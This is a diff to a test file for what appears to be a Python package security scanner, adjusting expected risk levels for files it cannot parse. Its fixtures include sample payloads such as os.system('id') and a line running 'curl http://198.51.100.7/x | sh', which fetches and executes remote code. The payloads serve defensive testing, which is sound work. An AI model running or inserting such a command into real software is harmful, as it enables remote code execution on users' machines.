@@ -38,13 +38,13 @@ def test_python2_diamond_and_true_assignment_are_old_code(tmp_path):
     assert result.risk.level not in HIGH, [t.id for t in result.threats]
 
 
-def test_a_diamond_only_in_a_string_or_under_barry_as_flufl_stays_unread_high(tmp_path):
+def test_a_diamond_only_in_a_string_is_a_typo_and_under_barry_as_flufl_stays_unread(tmp_path):
     in_string = "import os\nSEP = '<>'\nos.system('id') +\n"
     barry = "from __future__ import barry_as_FLUFL\nimport os\nif 1 <> 2:\n    os.system('id')\n"
     result = scan(
         {"pkg/__init__.py": "X = 1\n", "pkg/a.py": in_string, "pkg/b.py": barry}, tmp_path
     )
-    assert _unread(result) == {"pkg/a.py": "high", "pkg/b.py": "high"}
+    assert _unread(result) == {"pkg/a.py": "medium", "pkg/b.py": "high"}  # a.py: blanked
     assert_high_with("unparsed", result, {"disguise.unread"})
 
 
@@ -83,8 +83,9 @@ def test_str_format_fields_standing_for_names_are_a_template(tmp_path):
 def test_a_field_away_from_the_error_is_no_template_and_a_payload_in_one_is_found(tmp_path):
     broken = "import os\nNAMES = {name}\nos.system('id') +\n"
     result = scan({"pkg/__init__.py": "X = 1\n", "pkg/tool.py": broken}, tmp_path)
-    assert _unread(result) == {"pkg/tool.py": "high"}
-    assert_high_with("broken", result, {"disguise.unread"})
+    note = [h.explanation for h in result.findings if h.capability == "scan.unread"]
+    assert _unread(result) == {"pkg/tool.py": "medium"}  # a typo: blanked, the rest read
+    assert "blanked (line 3: " in note[0] and "template" not in note[0]
     payload = SCAFFOLD["pkg/scaffold/templates/app_name/main.py"] + (
         "import os\nos.system('curl http://198.51.100.7/x | sh')\n"
     )
